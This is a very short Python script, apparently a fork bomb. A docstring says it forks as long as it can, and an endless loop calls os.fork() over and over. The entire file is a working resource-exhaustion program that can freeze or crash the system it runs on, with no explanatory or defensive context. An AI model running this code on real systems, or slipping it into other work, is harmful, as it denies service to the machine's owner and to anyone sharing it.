"""It forks as long as it can."""

import os
while True:
    os.fork()
